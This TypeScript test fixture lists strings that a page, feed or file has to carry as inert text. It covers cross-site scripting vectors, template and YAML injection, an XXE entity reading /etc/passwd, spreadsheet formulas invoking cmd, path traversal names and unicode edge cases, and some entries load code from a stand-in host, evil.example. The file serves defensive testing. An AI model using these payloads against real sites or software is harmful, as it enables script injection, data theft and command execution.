/**
 * Strings that a page, a feed or a file must carry as mere text: one or more for each class of the published
 * cross-site scripting cheat sheets (OWASP, PortSwigger), and for each language that a build passes text through.
 * The sentinel `pwned` names what an executed one would call.
 */
export const HOSTILE: Record<string, readonly string[]> = {
  script: ['<script>pwned(1)</script>', '<ScRiPt >pwned(1)</sCrIpT>', '<script src=//evil.example/x.js></script>', '</title><script>pwned(1)</script>', '</style><script>pwned(1)</script>', '</textarea><script>pwned(1)</script>', '<<script>pwned(1)//<</script>', '<scr<script>ipt>pwned(1)</scr</script>ipt>'],
  handler: ['<img src=x onerror=pwned(1)>', '<body onload=pwned(1)>', '" onmouseover="pwned(1)', '\' autofocus onfocus=\'pwned(1)', '<details open ontoggle=pwned(1)>', '<input autofocus onfocus=pwned(1)>', '<video><source onerror=pwned(1)></video>', '<a href="#" onclick="pwned(1)">go</a>', '<marquee onstart=pwned(1)>', '<img/src=`x`onerror=pwned(1)>'],
  link: ['javascript:pwned(1)', 'JaVaScRiPt:pwned(1)', 'java\tscript:pwned(1)', ' \x01javascript:pwned(1)', 'data:text/html,<script>pwned(1)</script>', 'vbscript:pwned(1)', '<a href="javascript:pwned(1)">x</a>', 'javascript://evil.example/%0Apwned(1)', 'https://evil.example/"onclick="pwned(1)', '&#106;avascript:pwned(1)'],
  document: ['<iframe srcdoc="<script>pwned(1)</script>"></iframe>', '<meta http-equiv="refresh" content="0;url=javascript:pwned(1)">', '<base href="https://evil.example/">', '<link rel=stylesheet href=https://evil.example/x.css>', '<object data="javascript:pwned(1)">', '<embed src="data:text/html,pwned">', '<form action="https://evil.example/"><button formaction="javascript:pwned(1)">x</button></form>', '<template><script>pwned(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=pwned(1)>">'],
  foreign: ['<svg onload=pwned(1)>', '<svg><script>pwned(1)</script></svg>', '<svg><animate onbegin=pwned(1) attributeName=x dur=1s>', '<svg><a xlink:href="javascript:pwned(1)"><text y="20">x</text></a></svg>', '<math href="javascript:pwned(1)">x</math>', '<math><mtext><table><mglyph><style><img src=x onerror=pwned(1)>', '<svg><foreignObject><iframe src="javascript:pwned(1)"></iframe></foreignObject></svg>', '<svg><style>@import "https://evil.example/x.css";</style></svg>'],
  style: ['<style>*{background:url(https://evil.example/x)}</style>', '<div style="background:url(javascript:pwned(1))">', '" style="x:expression(pwned(1))', '</style>', '@import url(https://evil.example/x.css);'],
  template: ['{{ 7 * 7 }}', '{% include "/etc/passwd" %}', '{{ constructor.constructor("pwned(1)")() }}', '${pwned(1)}', '<%= pwned(1) %>', '#{pwned(1)}', '{%- raw -%}', '{{{ page.url }}}', '`${pwned(1)}`', '---js\n{ title: pwned(1) }\n---'],
  data: ['</script><script>pwned(1)</script>', '<!--<script>', '-->', ']]>', '<![CDATA[<script>pwned(1)</script>]]>', '<?xml-stylesheet href="javascript:pwned(1)"?>', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '\u2028pwned(1)\u2029', '","pwned":"1', '\\u003cscript\\u003epwned(1)\\u003c/script\\u003e'],
  formula: ['=HYPERLINK("https://evil.example/")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', ';=1+1', '"=1+1'],
  calendar: ['x\r\nBEGIN:VEVENT\r\nSUMMARY:pwned\r\nEND:VEVENT', 'x\\nATTACH:https://evil.example/', 'x;TZID=pwned:1', 'x\nEND:VCALENDAR'],
  yaml: ['!!js/function "function () { pwned(1) }"', '&a [*a, *a]', '*undefined', '? : -', '%TAG ! tag:evil.example,2000:', '!!python/object/apply:os.system ["pwned"]', '{__proto__: {pwned: 1}}', '- - - - -', '"\\ud800"'],
  names: ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '../../../../etc/passwd', '..\\..\\windows\\system32', 'CON', 'NUL.txt', 'aux', 'index.html', '.', '..', '~', '/', '\\', '%2e%2e%2f', '%00', 'a'.repeat(400)],
  unicode: ['\u202Epwned\u202C', '\u2066evil\u2069', '\u200B\u200C\u200D\uFEFF', '\uD800', '\uDFFF\uD800', '\0', '\x01\x02\x07\x08\x0B\x0C\x1B\x7F', '\x80\x85\x9F', '\uFFFE\uFFFF', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L', 'ﷺ', '👩‍👩‍👧‍👦🏳️‍🌈', 'раураl', 'ＳＣＲＩＰＴ', '\u0130\u0131', 'ß', '\u1E9E', 'مرحبا بالعالم', '﷽'.repeat(20)],
}

export const ALL_HOSTILE: readonly string[] = Object.values(HOSTILE).flat()
